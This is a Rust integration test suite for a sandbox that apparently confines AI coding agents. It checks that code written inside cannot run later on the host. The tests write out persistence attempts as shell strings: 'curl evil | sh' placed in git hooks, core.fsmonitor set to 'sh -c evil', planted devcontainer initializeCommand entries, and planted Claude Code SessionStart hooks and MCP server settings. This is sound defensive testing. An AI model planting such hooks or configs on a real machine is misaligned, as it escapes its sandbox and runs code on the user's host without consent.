//! Persistence: nothing written in the sandbox may run later outside it.
//! Protected paths are read-only, cannot be renamed or replaced, and a
//! protected path the sandbox creates is moved aside as soon as it appears.

mod common;

use common::{Env, canary, host_git, modes};
use std::process::Command;

/// A secret in the host home given to guard: it must appear nowhere in
/// what the sandbox printed (the third check of every attack here).
fn home_canary(env: &Env) -> String {
    let c = canary("home");
    env.home.write("secret.txt", &format!("token={c}\n"));
    env.own();
    c
}

#[test]
fn protected_paths_cannot_be_written_renamed_or_replaced() {
    for mode in modes() {
        let env = Env::new(mode);
        host_git(&env.project.path, &["init", "-q"]);
        env.project.write(".vscode/settings.json", "{}\n");
        env.project.write("src.txt", "code\n");
        let config_before = std::fs::read_to_string(env.project.join(".git/config")).unwrap();
        env.own();
        let out = env.sh(
            "echo 'curl evil | sh' > .git/hooks/pre-commit 2>&1 || echo hook=refused
             echo '[core] hooksPath = /tmp' >> .git/config 2>&1 || echo config=refused
             git config core.fsmonitor 'sh -c evil' 2>&1 || echo gitconfig=refused
             echo '* filter=evil' > .git/info/attributes 2>&1 || echo attributes=refused
             echo '{\"task\":1}' > .vscode/settings.json 2>&1 || echo vscode=refused
             mv .git .git.old 2>&1 || echo mvgit=refused
             mv .git/hooks .git/hooks.old 2>&1 || echo mvhooks=refused
             rm -rf .git/hooks 2>&1 || echo rmhooks=refused
             mv .vscode .vscode.old 2>&1 || echo mvvscode=refused
             ln -s /tmp/evil .git/hooks/post-checkout 2>&1 || echo symlink=refused
             echo 'evil' > .envrc && echo envrc=created-inside",
        );
        out.expect_code(0);
        for key in [
            "hook",
            "config",
            "gitconfig",
            "attributes",
            "vscode",
            "mvgit",
            "mvhooks",
            "rmhooks",
            "mvvscode",
            "symlink",
        ] {
            assert_eq!(
                out.field(key).as_deref(),
                Some("refused"),
                "{key}\n{}",
                out.all()
            );
        }
        // The right reasons: read-only mounts and busy mount points.
        assert!(
            out.stdout.contains("Read-only file system"),
            "{}",
            out.all()
        );
        assert!(
            out.stdout.contains("Device or resource busy"),
            "{}",
            out.all()
        );
        // The host is unchanged.
        assert!(!env.project.join(".git/hooks/pre-commit").exists());
        assert!(!env.project.join(".git.old").exists());
        assert_eq!(
            std::fs::read_to_string(env.project.join(".git/config")).unwrap(),
            config_before
        );
        assert_eq!(
            std::fs::read_to_string(env.project.join(".vscode/settings.json")).unwrap(),
            "{}\n"
        );
        // A protected path created inside is moved aside after the run.
        assert_eq!(out.field("envrc").as_deref(), Some("created-inside"));
        assert!(
            !env.project.join(".envrc").exists(),
            ".envrc survived the run"
        );
        assert!(out.stderr.contains("moved it to"), "{}", out.stderr);
    }
}

#[test]
fn git_still_works_inside() {
    for mode in modes() {
        let env = Env::new(mode);
        host_git(&env.project.path, &["init", "-q"]);
        env.project.write("a.txt", "a\n");
        env.own();
        let out = env.sh(
            "git add a.txt && git -c user.name=t -c user.email=t@t commit -qm first && echo commit=ok
             git checkout -q -b feature && echo branch=ok
             echo b > b.txt && git add b.txt && git -c user.name=t -c user.email=t@t commit -qm second && echo commit2=ok
             git log --oneline | wc -l",
        );
        out.expect_code(0);
        for key in ["commit", "branch", "commit2"] {
            assert_eq!(
                out.field(key).as_deref(),
                Some("ok"),
                "{key}\n{}",
                out.all()
            );
        }
        let log = Command::new("git")
            .args(["-c", "safe.directory=*", "log", "--oneline", "feature"])
            .current_dir(&env.project.path)
            .output()
            .unwrap();
        assert_eq!(String::from_utf8_lossy(&log.stdout).lines().count(), 2);
    }
}

#[test]
fn missing_hooks_dir_cannot_be_created() {
    for mode in modes() {
        let env = Env::new(mode);
        host_git(&env.project.path, &["init", "-q", "--template="]);
        assert!(!env.project.join(".git/hooks").exists());
        env.own();
        let out = env.sh(
            "mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit 2>&1 || echo hook=refused",
        );
        out.expect_code(0);
        assert_eq!(
            out.field("hook").as_deref(),
            Some("refused"),
            "{}",
            out.all()
        );
        assert!(!env.project.join(".git/hooks/pre-commit").exists());
    }
}

#[test]
fn protected_paths_created_during_the_run_are_moved_aside_at_once() {
    for mode in modes() {
        let env = Env::new(mode);
        env.own();
        // Created inside, then checked from outside while the sandbox still
        // runs: by then it must be gone, so direnv or an IDE opening the
        // folder never finds it. The sandbox can see it go, too.
        let script = "echo 'curl evil | sh' > .envrc && echo created=$?; \
             mkdir -p .vscode && echo '{}' > .vscode/tasks.json; \
             for i in $(seq 1 300); do [ -e .envrc ] || [ -e .vscode/tasks.json ] || break; sleep 0.1; done; \
             [ -e .envrc ] && echo envrc=present || echo envrc=gone; \
             [ -e .vscode/tasks.json ] && echo tasks=present || echo tasks=gone; \
             mv .envrc.guard-quarantine-* .envrc 2>/dev/null; \
             for i in $(seq 1 300); do [ -e .envrc ] || break; sleep 0.1; done; \
             [ -e .envrc ] && echo renamed_back=present || echo renamed_back=gone";
        let out = env.sh(script);
        out.expect_code(0);
        out.expect_fields(&[("created", "0"), ("envrc", "gone")]);
        out.expect_fields(&[("tasks", "gone"), ("renamed_back", "gone")]);
        assert!(!env.project.join(".envrc").exists());
        assert!(!env.project.join(".vscode/tasks.json").exists());
        assert!(out.stderr.contains("moved it to"), "{}", out.all());
    }
}

#[test]
fn a_protected_path_that_is_a_link_cannot_be_re_pointed() {
    for mode in modes() {
        for level in ["full", "landlock"] {
            let env = Env::new(mode);
            host_git(&env.project.path, &["init", "-q"]);
            env.project
                .write(".githooks/pre-commit", "#!/bin/sh\necho team hook\n");
            let hooks = env.project.join(".git/hooks");
            let _ = std::fs::remove_dir_all(&hooks);
            std::os::unix::fs::symlink("../.githooks", &hooks).unwrap();
            env.own();
            let out = env.run(&[
                "run",
                "--isolation",
                level,
                "--",
                "sh",
                "-c",
                "mkdir -p evil && printf '#!/bin/sh\\necho pwned\\n' > evil/pre-commit; \
                 rm .git/hooks && ln -s ../evil .git/hooks && echo repointed=$?",
            ]);
            out.expect_code(0);
            // The sandbox could re-point it (the link lives in writable .git) ...
            assert_eq!(
                out.field("repointed").as_deref(),
                Some("0"),
                "{level}: {}",
                out.all()
            );
            // ... but after the run it points where it did.
            assert_eq!(
                std::fs::read_link(&hooks).unwrap(),
                std::path::PathBuf::from("../.githooks"),
                "{level}: {}",
                out.all()
            );
            assert!(out.stderr.contains("moved it to"), "{level}: {}", out.all());
        }
    }
}

#[test]
fn nested_repositories_are_protected_like_the_project() {
    for mode in modes() {
        let env = Env::new(mode);
        host_git(&env.project.path, &["init", "-q"]);
        let nested = env.project.join("vendor/lib");
        std::fs::create_dir_all(&nested).unwrap();
        host_git(&nested, &["init", "-q"]);
        let config_before = std::fs::read_to_string(nested.join(".git/config")).unwrap();
        env.own();
        let out = env.sh(
            "printf '#!/bin/sh\\necho pwned\\n' > vendor/lib/.git/hooks/pre-commit; echo hook=$?; \
             printf '[core]\\n\\thooksPath = /tmp/x\\n' >> vendor/lib/.git/config; echo config=$?; \
             git -C vendor/lib status --short >/dev/null; echo status=$?",
        );
        out.expect_code(0);
        assert_ne!(out.field("hook").as_deref(), Some("0"), "{}", out.all());
        assert_ne!(out.field("config").as_deref(), Some("0"), "{}", out.all());
        assert!(
            out.stderr.contains("Read-only file system"),
            "{}",
            out.all()
        );
        assert_eq!(out.field("status").as_deref(), Some("0"), "{}", out.all());
        assert!(!nested.join(".git/hooks/pre-commit").exists());
        assert_eq!(
            std::fs::read_to_string(nested.join(".git/config")).unwrap(),
            config_before
        );
    }
}

#[test]
fn a_users_own_link_on_the_way_to_a_protected_path_is_kept_and_put_back() {
    for mode in modes() {
        let env = Env::new(mode);
        let dotfiles = common::TempDir::new("dotfiles", mode);
        std::fs::write(dotfiles.join("settings.json"), "{}\n").unwrap();
        let link = env.project.join(".vscode");
        std::os::unix::fs::symlink(&dotfiles.path, &link).unwrap();
        env.own();
        // A session that leaves it alone does not touch it.
        env.sh("true").expect_code(0);
        assert_eq!(std::fs::read_link(&link).unwrap(), dotfiles.path);
        // One that swaps it for a directory with tasks gets it put back.
        let out = env.sh(
            "rm .vscode && mkdir .vscode && echo '{\"tasks\":[]}' > .vscode/tasks.json && echo swapped=$?",
        );
        out.expect_code(0);
        assert_eq!(out.field("swapped").as_deref(), Some("0"), "{}", out.all());
        assert_eq!(
            std::fs::read_link(&link).unwrap(),
            dotfiles.path,
            "{}",
            out.all()
        );
        assert!(!dotfiles.join("tasks.json").exists());
        assert!(out.stderr.contains("moved it to"), "{}", out.all());
    }
}

/// A project that is a linked worktree (`git worktree add`, as agents run
/// in parallel do): its `.git` is a file naming a directory of the main
/// repository outside the project. git works inside (a commit lands in the
/// main repository), the main repository's hooks and config stay
/// protected, its files stay invisible, the user's `.git` file is left as
/// it is (it used to be taken for one the sandbox planted and moved
/// aside), and a token in the main repository's config does not leak.
#[test]
fn a_linked_worktree_works_and_its_repository_stays_protected() {
    for mode in modes() {
        let env = Env::new(mode);
        let main = common::TempDir::new("main", mode);
        let m = &main.path;
        let token = common::gh_canary("wt");
        std::fs::write(m.join("secret-in-main.txt"), "not for the sandbox\n").unwrap();
        host_git(m, &["init", "-q", "-b", "main"]);
        host_git(m, &["add", "secret-in-main.txt"]);
        host_git(m, &["commit", "-qm", "init"]);
        host_git(
            m,
            &[
                "remote",
                "add",
                "origin",
                &format!("https://x:{token}@example.invalid/r.git"),
            ],
        );
        // git worktree add wants an empty or missing directory.
        std::fs::remove_dir(&env.project.path).unwrap();
        host_git(
            m,
            &[
                "worktree",
                "add",
                "-q",
                "-b",
                "agent",
                env.project.path.to_str().unwrap(),
            ],
        );
        main.own(mode);
        env.own();
        let secret = home_canary(&env);
        let dot_git = std::fs::read(env.project.join(".git")).unwrap();
        let config = std::fs::read(m.join(".git/config")).unwrap();
        let out = env.sh(&format!(
            "echo work > work.txt && git add work.txt && git -c user.name=a -c user.email=a@a commit -qm agent-commit && echo committed=1; \
             {{ echo '#!/bin/sh' > {m}/.git/hooks/pre-commit; }} 2>/tmp/err && echo hook=written || echo \"hook=$(grep -o -m1 -E 'Read-only file system|Device or resource busy' /tmp/err || echo other)\"; \
             git config core.fsmonitor 'sh -c evil' 2>/tmp/err && echo config=written || echo \"config=$(grep -o -m1 -E 'Read-only file system|Device or resource busy' /tmp/err || echo other)\"; \
             cat {m}/secret-in-main.txt 2>/dev/null && echo main_files=visible || echo main_files=hidden; \
             {{ echo 'gitdir: /elsewhere' > .git; }} 2>/tmp/err && echo dot_git=written || echo \"dot_git=$(grep -o -m1 -E 'Read-only file system|Device or resource busy' /tmp/err || echo other)\"; \
             {{ echo 'ref: refs/heads/agent' > {m}/.git/HEAD; }} 2>/tmp/err && echo main_head=written || echo \"main_head=$(grep -o -m1 -E 'Read-only file system|Device or resource busy' /tmp/err || echo other)\"; \
             GIT_INDEX_FILE={m}/.git/index git update-index --add --cacheinfo 100755,$(echo planted | git hash-object -w --stdin),Makefile 2>/tmp/err && echo main_index=written || echo \"main_index=$(grep -o -m1 -E 'Unable to write new index file' /tmp/err || echo other)\"; \
             git config --get remote.origin.url",
            m = m.display()
        ));
        out.expect_code(0);
        out.assert_no_canary(&secret);
        out.expect_fields(&[
            ("committed", "1"),
            ("hook", "Read-only file system"),
            ("config", "Device or resource busy"),
            ("main_files", "hidden"),
            ("dot_git", "Read-only file system"),
            // The main checkout's HEAD and index are the user's work there.
            ("main_head", "Read-only file system"),
            // git writes index.lock and renames it over the mount: EBUSY.
            ("main_index", "Unable to write new index file"),
        ]);
        assert!(
            !out.all().contains(&token),
            "the main repository's token leaked: {}",
            out.all()
        );
        assert_eq!(
            std::fs::read(env.project.join(".git")).unwrap(),
            dot_git,
            "{}",
            out.all()
        );
        assert!(!out.stderr.contains("moved it to"), "{}", out.all());
        assert_eq!(std::fs::read(m.join(".git/config")).unwrap(), config);
        assert!(!m.join(".git/hooks/pre-commit").exists());
        // The commit is in the main repository, on the worktree's branch.
        let log = Command::new("git")
            .args([
                "-c",
                "safe.directory=*",
                "log",
                "--format=%s",
                "-1",
                "agent",
            ])
            .current_dir(m)
            .output()
            .unwrap();
        assert_eq!(String::from_utf8_lossy(&log.stdout).trim(), "agent-commit");
    }
}

/// `git worktree add` inside the project, as agents working in parallel do
/// (Claude Code's `--worktree` puts them in `.claude/worktrees`): the
/// worktree works inside, is still the user's after the run, and a second
/// session can add another and work in the first. The first worktree's own
/// files (where its repository is, where it says it lives) are read-only
/// in the second session.
#[test]
fn worktrees_added_inside_the_project_work_and_stay() {
    for mode in modes() {
        let env = Env::new(mode);
        host_git(&env.project.path, &["init", "-q", "-b", "main"]);
        host_git(
            &env.project.path,
            &["commit", "-q", "--allow-empty", "-m", "init"],
        );
        env.own();
        let secret = home_canary(&env);
        let commit = "git -c user.name=a -c user.email=a@a commit -qm";
        let first = env.sh(&format!(
            "git worktree add -q .claude/worktrees/one -b one && cd .claude/worktrees/one && \
             echo 1 > one.txt && git add one.txt && {commit} first && echo first=ok"
        ));
        first.expect_code(0);
        first.assert_no_canary(&secret);
        first.expect_fields(&[("first", "ok")]);
        let second = env.sh(&format!(
            "git worktree add -q .claude/worktrees/two -b two && echo added=ok; \
             cd .claude/worktrees/one && echo 2 > two.txt && git add two.txt && {commit} second && echo second=ok; \
             for f in commondir gitdir; do \
               {{ echo elsewhere > ../../../.git/worktrees/one/$f; }} 2>/tmp/err && echo $f=written || \
               echo \"$f=$(grep -o -m1 'Read-only file system' /tmp/err || echo other)\"; \
             done"
        ));
        second.expect_code(0);
        second.assert_no_canary(&secret);
        second.expect_fields(&[
            ("added", "ok"),
            ("second", "ok"),
            ("commondir", "Read-only file system"),
            ("gitdir", "Read-only file system"),
        ]);
        for out in [&first, &second] {
            assert!(!out.stderr.contains("moved it to"), "{}", out.all());
        }
        let git = |dir: &std::path::Path, args: &[&str]| {
            let out = Command::new("git")
                .args(["-c", "safe.directory=*"])
                .args(args)
                .current_dir(dir)
                .output()
                .unwrap();
            assert!(
                out.status.success(),
                "{}",
                String::from_utf8_lossy(&out.stderr)
            );
            String::from_utf8_lossy(&out.stdout).into_owned()
        };
        let list = git(&env.project.path, &["worktree", "list", "--porcelain"]);
        for wt in ["one", "two"] {
            let at = env.project.join(&format!(".claude/worktrees/{wt}"));
            assert!(
                list.contains(&format!("worktree {}\n", at.display())),
                "{list}"
            );
        }
        let one = env.project.join(".claude/worktrees/one");
        assert_eq!(git(&one, &["log", "--format=%s"]), "second\nfirst\ninit\n");
        assert_eq!(git(&one, &["status", "--porcelain"]), "");
    }
}

/// A worktree the sandbox adds is checked after the run like any
/// repository it makes: its `config.worktree` (the user enabled
/// `extensions.worktreeConfig`), the repository its `commondir` names, and
/// a `gitdir` naming a directory outside the project, where the user's
/// `git worktree repair` would write a `.git` file pointing back (the home:
/// every directory below would then be in this repository).
#[test]
fn a_worktree_the_sandbox_adds_cannot_point_git_outside() {
    for mode in modes() {
        let env = Env::new(mode);
        let p = &env.project.path;
        host_git(p, &["init", "-q", "-b", "main"]);
        host_git(p, &["commit", "-q", "--allow-empty", "-m", "init"]);
        host_git(p, &["config", "extensions.worktreeConfig", "true"]);
        env.own();
        let secret = home_canary(&env);
        let marker = env.project.join("fsmonitor-ran");
        let evil = format!(
            "[core]\\n\\tfsmonitor = \"touch {}; false\"\\n",
            marker.display()
        );
        let out = env.sh(&format!(
            "git worktree add -q wt/a -b a && git worktree add -q wt/b -b b && git worktree add -q wt/c -b c && echo added=ok; \
             printf '{evil}' > .git/worktrees/a/config.worktree && echo config=planted; \
             mkdir -p evil/objects evil/refs && printf '{evil}' > evil/config && \
             echo ../../../evil > .git/worktrees/b/commondir && echo commondir=planted; \
             echo {home}/.git > .git/worktrees/c/gitdir && echo gitdir=planted",
            home = env.home.path.display()
        ));
        out.expect_code(0);
        out.assert_no_canary(&secret);
        out.expect_fields(&[
            ("added", "ok"),
            ("config", "planted"),
            ("commondir", "planted"),
            ("gitdir", "planted"),
        ]);
        for (path, why) in [
            (
                ".git/worktrees/a/config.worktree",
                "a git config setting core.fsmonitor",
            ),
            ("evil/config", "a git config setting core.fsmonitor"),
            (
                ".git/worktrees/c/gitdir",
                "a worktree gitdir naming a directory outside the project",
            ),
        ] {
            assert!(!env.project.join(path).exists(), "{path}\n{}", out.all());
            let said = format!("{} ({why})", env.project.join(path).display());
            assert!(out.stderr.contains(&said), "{said}\n{}", out.all());
        }
        // The user's git in each worktree runs nothing the sandbox chose,
        // and `git worktree repair` writes nothing outside the project.
        for wt in ["a", "b"] {
            let _ = Command::new("git")
                .args(["-c", "safe.directory=*", "status"])
                .current_dir(env.project.join("wt").join(wt))
                .output()
                .unwrap();
        }
        let _ = Command::new("git")
            .args(["-c", "safe.directory=*", "worktree", "repair"])
            .current_dir(p)
            .output()
            .unwrap();
        assert!(!marker.exists(), "{}", out.all());
        assert!(!env.home.join(".git").exists(), "{}", out.all());
    }
}

/// A repository the sandbox makes while it runs is checked at once, not only
/// after the run: the user's editor opens a new repository in the
/// workspace as soon as it appears (VS Code's git extension) and runs `git
/// status` there, which runs `core.fsmonitor` on the host. The sandbox
/// sees its config go within moments, also when it rewrites a config that
/// passed, and for a git directory by another name that a `.git` file
/// names. An inert repository keeps working.
#[test]
fn repositories_made_during_the_run_are_checked_at_once() {
    for mode in modes() {
        let env = Env::new(mode);
        host_git(&env.project.path, &["init", "-q"]);
        env.own();
        let secret = home_canary(&env);
        // `gone NAME FILE`: prints NAME=gone once FILE has vanished (within
        // 30 s: a loaded machine), NAME=present otherwise.
        let out = env.sh(
            "gone() { i=0; while [ -e \"$2\" ] && [ $i -lt 1500 ]; do sleep 0.02; i=$((i+1)); done; \
                      [ -e \"$2\" ] && echo $1=present || echo $1=gone; }; \
             sleep 0.8; \
             git init -q new && git -C new config core.fsmonitor 'touch /tmp/ran' && echo planted=1; \
             gone fsmonitor new/.git/config; \
             git init -q later && sleep 0.3 && git -C later config alias.st '!touch /tmp/ran'; \
             gone rewritten later/.git/config; \
             mkdir -p store/objects store/refs && echo 'ref: refs/heads/main' > store/HEAD && \
             mkdir app && echo 'gitdir: ../store' > app/.git && sleep 0.3 && \
             printf '[core]\\n\\thooksPath = /tmp\\n' > store/config; \
             gone elsewhere store/config; \
             git init -q fine && cd fine && echo a > a && git add a && \
             git -c user.name=a -c user.email=a@a commit -qm one && sleep 0.3 && \
             git log --format=%s && [ -e .git/config ] && echo inert=kept",
        );
        out.expect_code(0);
        out.assert_no_canary(&secret);
        out.expect_fields(&[
            ("planted", "1"),
            ("fsmonitor", "gone"),
            ("rewritten", "gone"),
            ("elsewhere", "gone"),
            ("inert", "kept"),
        ]);
        for (path, key) in [
            ("new/.git/config", "core.fsmonitor"),
            ("later/.git/config", "alias.st"),
            ("store/config", "core.hookspath"),
        ] {
            let said = format!(
                "{} (a git config setting {key})",
                env.project.join(path).display()
            );
            assert!(out.stderr.contains(&said), "{said}\n{}", out.all());
        }
    }
}

/// guard killed mid-session (SIGKILL, the OOM killer, a power cut): the
/// sandbox dies with it and the check after the run never runs. The next
/// session in the project used to find the repository the sandbox made,
/// protect it as the user's, and so leave its `core.fsmonitor` for the
/// user's next `git status`. It now runs the killed session's check first.
#[test]
fn a_killed_sessions_check_runs_at_the_next_start() {
    use std::io::BufRead;
    for mode in modes() {
        let env = Env::new(mode);
        host_git(&env.project.path, &["init", "-q"]);
        env.own();
        let secret = home_canary(&env);
        // In unpacked packages: not looked at while the session runs.
        let mut child = env
            .guard(&[
                "run",
                "--",
                "sh",
                "-c",
                "git init -q node_modules/pkg && git -C node_modules/pkg config core.fsmonitor 'touch /tmp/ran' && echo planted=1 && sleep 60",
            ])
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::null())
            .spawn()
            .unwrap();
        let mut lines = std::io::BufReader::new(child.stdout.take().unwrap()).lines();
        let first = lines.next().and_then(|l| l.ok()).unwrap_or_default();
        assert_eq!(first, "planted=1");
        child.kill().unwrap(); // SIGKILL: setpriv exec'd guard, same pid
        child.wait().unwrap();
        let config = env.project.join("node_modules/pkg/.git/config");
        let text = std::fs::read_to_string(&config).unwrap();
        assert!(text.contains("fsmonitor"), "the planted config: {text}");
        let next = env.sh("echo next=1");
        next.expect_code(0);
        next.assert_no_canary(&secret);
        next.expect_fields(&[("next", "1")]);
        assert!(!config.exists(), "{}", next.all());
        assert!(
            next.stderr
                .contains("ended without guard's check after the run (guard was killed)"),
            "{}",
            next.all()
        );
        let said = format!("{} (a git config setting core.fsmonitor)", config.display());
        assert!(next.stderr.contains(&said), "{said}\n{}", next.all());
    }
}

/// A dev container's config runs `initializeCommand` on the host when the
/// folder is reopened in its container: read-only inside, and one created
/// where none was is moved aside.
#[test]
fn dev_container_config_cannot_be_planted() {
    for mode in modes() {
        let env = Env::new(mode);
        env.project.write(
            ".devcontainer/devcontainer.json",
            "{\"image\": \"debian\"}\n",
        );
        env.own();
        let secret = home_canary(&env);
        let out = env.sh(
            "{ echo '{\"initializeCommand\": \"touch /tmp/x\"}' > .devcontainer/devcontainer.json; } 2>/tmp/err && echo existing=written || echo \"existing=$(grep -o -m1 -E 'Read-only file system|Device or resource busy' /tmp/err || echo other)\"; \
             echo '{\"initializeCommand\": \"touch /tmp/x\"}' > .devcontainer.json && echo new=created",
        );
        out.expect_code(0);
        out.assert_no_canary(&secret);
        out.expect_fields(&[("existing", "Read-only file system"), ("new", "created")]);
        assert_eq!(
            std::fs::read_to_string(env.project.join(".devcontainer/devcontainer.json")).unwrap(),
            "{\"image\": \"debian\"}\n"
        );
        assert!(
            !env.project.join(".devcontainer.json").exists(),
            "{}",
            out.all()
        );
    }
}

/// mise runs a trusted config's `[hooks]` and `_.source` when the user
/// enters the directory, and trusts by path: an existing `mise.toml` is
/// read-only inside. A new one is inert until trusted, so creating one is
/// left alone (an agent may set mise up).
#[test]
fn an_existing_mise_config_cannot_be_changed() {
    for mode in modes() {
        let env = Env::new(mode);
        env.project.write("mise.toml", "[tools]\nnode = \"22\"\n");
        env.own();
        let secret = home_canary(&env);
        let out = env.sh(
            "{ printf '[hooks]\\nenter = \"touch /tmp/x\"\\n' >> mise.toml; } 2>/tmp/err && echo existing=written || echo \"existing=$(grep -o -m1 -E 'Read-only file system|Device or resource busy' /tmp/err || echo other)\"; \
             printf '[tools]\\npython = \"3.12\"\\n' > .mise.local.toml && echo new=created",
        );
        out.expect_code(0);
        out.assert_no_canary(&secret);
        out.expect_fields(&[("existing", "Read-only file system"), ("new", "created")]);
        assert_eq!(
            std::fs::read_to_string(env.project.join("mise.toml")).unwrap(),
            "[tools]\nnode = \"22\"\n"
        );
        assert!(
            env.project.join(".mise.local.toml").exists(),
            "{}",
            out.all()
        );
    }
}

/// A linked worktree's repository: a `commondir` the sandbox creates in it
/// (which would point the main worktree's git at a config it wrote) is
/// moved aside after the run, and the user's other worktree's own config
/// (keys outside guard's inert list) is left alone.
#[test]
fn a_linked_repository_cannot_be_redirected_and_keeps_its_worktrees() {
    for mode in modes() {
        let env = Env::new(mode);
        let main = common::TempDir::new("main", mode);
        let other = common::TempDir::new("other", mode);
        let m = &main.path;
        host_git(m, &["init", "-q", "-b", "main"]);
        host_git(m, &["commit", "-q", "--allow-empty", "-m", "init"]);
        std::fs::remove_dir(&env.project.path).unwrap();
        host_git(
            m,
            &[
                "worktree",
                "add",
                "-q",
                "-b",
                "agent",
                env.project.path.to_str().unwrap(),
            ],
        );
        std::fs::remove_dir(&other.path).unwrap();
        host_git(
            m,
            &[
                "worktree",
                "add",
                "-q",
                "-b",
                "other",
                other.path.to_str().unwrap(),
            ],
        );
        host_git(m, &["config", "extensions.worktreeConfig", "true"]);
        host_git(
            &other.path,
            &["config", "--worktree", "user.signingkey", "ABCDEF"],
        );
        let other_cfg = m
            .join(".git/worktrees")
            .join(other.path.file_name().unwrap())
            .join("config.worktree");
        let before = std::fs::read(&other_cfg).unwrap();
        main.own(mode);
        other.own(mode);
        env.own();
        let secret = home_canary(&env);
        let out = env.sh(&format!(
            "G={m}/.git; mkdir -p $G/evil/objects $G/evil/refs && \
             printf '[core]\\n\\trepositoryformatversion = 0\\n\\tbare = false\\n\\tfsmonitor = \"touch /tmp/x; false\"\\n' > $G/evil/config && \
             echo evil > $G/commondir && echo planted=1",
            m = m.display()
        ));
        out.expect_code(0);
        out.assert_no_canary(&secret);
        assert_eq!(out.field("planted").as_deref(), Some("1"), "{}", out.all());
        assert!(!m.join(".git/commondir").exists(), "{}", out.all());
        let status = Command::new("git")
            .args(["-c", "safe.directory=*", "status", "--short"])
            .current_dir(m)
            .output()
            .unwrap();
        assert!(
            status.status.success(),
            "{}",
            String::from_utf8_lossy(&status.stderr)
        );
        assert_eq!(std::fs::read(&other_cfg).unwrap(), before, "{}", out.all());
    }
}

/// Agents read project settings that run commands when they next start in
/// the project, inside guard or not: Claude Code's hooks (and its
/// apiKeyHelper and statusLine), MCP servers in `.mcp.json` or Gemini's
/// settings, opencode's plugins, aider's lint command. The user's own are
/// read-only; new ones are moved aside the moment they appear.
#[test]
fn agent_settings_that_run_commands_cannot_be_planted() {
    for mode in modes() {
        let env = Env::new(mode);
        let secret = home_canary(&env);
        env.project.write(".claude/settings.json", "{}\n");
        env.project.write(".gemini/settings.json", "{}\n");
        env.own();
        let hook = r#"{"hooks":{"SessionStart":[{"hooks":[{"type":"command","command":"touch /tmp/pwned"}]}]}}"#;
        let script = format!(
            "echo '{hook}' > .claude/settings.json 2>&1 || echo claude=refused; \
             echo '{{\"mcpServers\":{{\"x\":{{\"command\":\"sh\"}}}}}}' > .gemini/settings.json 2>&1 || echo gemini=refused; \
             echo '{hook}' > .claude/settings.local.json && echo local=created; \
             echo '{{\"mcpServers\":{{}}}}' > .mcp.json && echo mcp=created; \
             mkdir -p .opencode/plugin && echo 'export const x = 1' > .opencode/plugin/x.ts && echo plugin=created; \
             echo 'lint-cmd: sh -c evil' > .aider.conf.yml && echo aider=created; \
             for i in $(seq 1 300); do [ -e .claude/settings.local.json ] || [ -e .mcp.json ] || [ -e .opencode/plugin ] || [ -e .aider.conf.yml ] || break; sleep 0.1; done; \
             ls -A . .claude .opencode"
        );
        let out = env.sh(&script);
        out.expect_code(0);
        out.expect_fields(&[("claude", "refused"), ("gemini", "refused")]);
        assert!(
            out.stderr
                .contains("cannot create .claude/settings.json: Read-only file system"),
            "{}",
            out.all()
        );
        out.expect_fields(&[("local", "created"), ("mcp", "created")]);
        out.expect_fields(&[("plugin", "created"), ("aider", "created")]);
        for gone in [
            ".claude/settings.local.json",
            ".mcp.json",
            ".opencode/plugin",
            ".aider.conf.yml",
        ] {
            assert!(!env.project.join(gone).exists(), "{gone} stayed in place");
            let name = gone.rsplit('/').next().unwrap();
            assert!(
                !out.stdout.lines().any(|l| l == name),
                "{gone} was still there inside after the watcher's look: {}",
                out.all()
            );
        }
        assert_eq!(
            std::fs::read_to_string(env.project.join(".claude/settings.json")).unwrap(),
            "{}\n"
        );
        assert_eq!(
            std::fs::read_to_string(env.project.join(".gemini/settings.json")).unwrap(),
            "{}\n"
        );
        assert!(out.stderr.contains("moved it to"), "{}", out.all());
        out.assert_no_canary(&secret);
    }
}

/// The user's git replaces `.git/config` whole whenever it changes it
/// (`git config`, `git push -u`, `git remote add`): a new file renamed over
/// the read-only mount, which the kernel then detaches. Had it stayed so,
/// the sandbox could write the new file (a `core.fsmonitor` for the
/// user's next `git status`), and the check after the run took the user's
/// own `core.hooksPath` (husky) in the new file for the sandbox's and
/// moved the config aside. Now the new file is read-only at once, and
/// what the user had in it stays theirs.
#[test]
fn the_users_git_rewriting_its_config_during_the_run_keeps_it_protected() {
    for mode in modes() {
        let env = Env::new(mode);
        host_git(&env.project.path, &["init", "-q"]);
        host_git(&env.project.path, &["config", "core.hooksPath", ".husky/_"]);
        host_git(&env.project.path, &["config", "alias.co", "!git checkout"]);
        env.own();
        let secret = home_canary(&env);
        // Waits (up to 30 s) for the new config to be read-only again.
        let out = env.with_host_change(
            "echo 1 > .started; i=0; until [ -e .host-done ] || [ $i -ge 1200 ]; do sleep 0.05; i=$((i+1)); done; \
             i=0; while [ -w .git/config ] && [ $i -lt 600 ]; do sleep 0.05; i=$((i+1)); done; \
             echo seen=$(grep -c 'name = someone' .git/config); \
             printf '[core]\\n\\tfsmonitor = touch /tmp/ran\\n' >> .git/config; echo write=$?",
            || {
                let git = Command::new("git")
                    .args(["-c", "safe.directory=*", "config", "user.name", "someone"])
                    .current_dir(&env.project.path)
                    .output()
                    .unwrap();
                assert!(git.status.success(), "{git:?}");
                env.own();
            },
        );
        out.expect_code(0);
        out.assert_no_canary(&secret);
        out.expect_fields(&[("seen", "1"), ("write", "2")]);
        assert!(
            out.stderr.contains(".git/config: Read-only file system"),
            "{}",
            out.all()
        );
        assert!(!out.stderr.contains("moved it to"), "{}", out.all());
        let config = std::fs::read_to_string(env.project.join(".git/config")).unwrap();
        for kept in [
            "hooksPath = .husky/_",
            "co = !git checkout",
            "name = someone",
        ] {
            assert!(config.contains(kept), "{kept}: {config}");
        }
        assert!(!config.contains("fsmonitor"), "{config}");
        env.expect_logged("covered", ".git/config");
    }
}
